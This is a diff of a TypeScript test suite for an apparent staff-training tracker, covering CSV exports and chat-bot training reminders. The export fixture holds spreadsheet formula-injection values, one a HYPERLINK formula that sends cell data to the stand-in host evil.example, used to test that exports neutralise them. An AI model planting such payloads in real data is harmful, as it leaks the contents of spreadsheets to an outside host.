@@ -264,25 +264,37 @@ describe('importing completions from a training provider', () => {
   });
 });
 
+/** A member of staff who started last year and has done no training (and never opened the bot). */
+const untrainedColleague = (
+  id: string,
+  names: { displayName: string; upn?: string; department?: string; jobTitle?: string },
+) =>
+  store().people.create(
+    {
+      trustId: 'trust-demo',
+      schoolId: 'school-oakfield',
+      upn: `${id}@demo.example.sch.uk`,
+      givenName: 'Mallory',
+      surname: 'Test',
+      department: 'Office',
+      jobTitle: 'Assistant',
+      ...names,
+      staffType: 'support',
+      roles: [{ role: 'Staff', schoolId: 'school-oakfield' }],
+      startedOn: '2025-09-01',
+      active: true,
+    },
+    id,
+  );
+
 describe('exports', () => {
-  beforeAll(async () => {
-    await store().people.create(
-      {
-        trustId: 'trust-demo',
-        schoolId: 'school-oakfield',
-        upn: 'mallory.test@demo.example.sch.uk',
-        displayName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
-        givenName: 'Mallory',
-        surname: 'Test',
-        department: '+Office',
-        jobTitle: '@SUM(1+1)',
-        staffType: 'support',
-        roles: [{ role: 'Staff', schoolId: 'school-oakfield' }],
-        startedOn: '2025-09-01',
-        active: true,
-      },
-      'person-formula',
-    );
+  beforeEach(async () => {
+    await untrainedColleague('person-formula', {
+      displayName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+      upn: 'mallory.test@demo.example.sch.uk',
+      department: '+Office',
+      jobTitle: '@SUM(1+1)',
+    });
   });
 
   test('CSV: values a spreadsheet would run as formulas are neutralised, filters apply', async () => {
@@ -318,12 +330,13 @@ describe('exports', () => {
 describe('reminders', () => {
   test('each person gets one personal card through the bot, and not a second the same day', async () => {
     await sayThroughConnector(env, STAFF_CHAT, 'hi', { id: 'a:jordan', conversationType: 'personal' });
+    await untrainedColleague('person-untrained', { displayName: 'Mallory Test' });
     const reminders = () => env.connector.received.filter((r) => JSON.stringify(r.body).includes('Training reminder'));
     const first = await json<{ queued: number; noChat: number; alreadyRemindedToday: number }>(
       'POST',
       '/training/reminders',
       HR,
-      { personIds: [STAFF, 'person-formula'] },
+      { personIds: [STAFF, 'person-untrained'] },
     );
     expect(first).toMatchObject({ queued: 1, noChat: 1, alreadyRemindedToday: 0 });
     const card = await env.connector.waitFor((r) => JSON.stringify(r.body).includes('Training reminder'));
